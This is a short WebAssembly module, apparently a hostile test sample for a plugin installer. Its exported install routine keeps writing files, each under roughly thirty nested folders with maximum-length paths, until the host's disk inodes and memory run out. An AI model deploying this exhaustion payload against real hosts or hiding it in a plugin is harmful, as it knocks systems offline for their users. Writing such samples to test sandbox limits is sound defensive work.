;; Attacks the host's memory and the disk's inodes: each file is in thirty folders of its own, as deep
;; and as long as a path may be. Folders come by themselves, so they must count as files do.
(import "marketplace:category/staging@1.0.0" "write" (func $write (param i32 i32 i32 i32 i32)))
(data (i32.const 520) "/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in-folder/folder-in")
(func $install (export "marketplace:category/installer@1.0.0#install")
  (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)
  (local $number i32)
  (loop $until-full
    (call $spell (local.get $number) (i32.const 512))
    (call $write (i32.const 512) (i32.const 511) (i32.const 0) (i32.const 0) (i32.const 256))
    (local.set $number (i32.add (local.get $number) (i32.const 1)))
    (br_if $until-full (i32.eqz (i32.load8_u (i32.const 256)))))
  (i32.const 128))
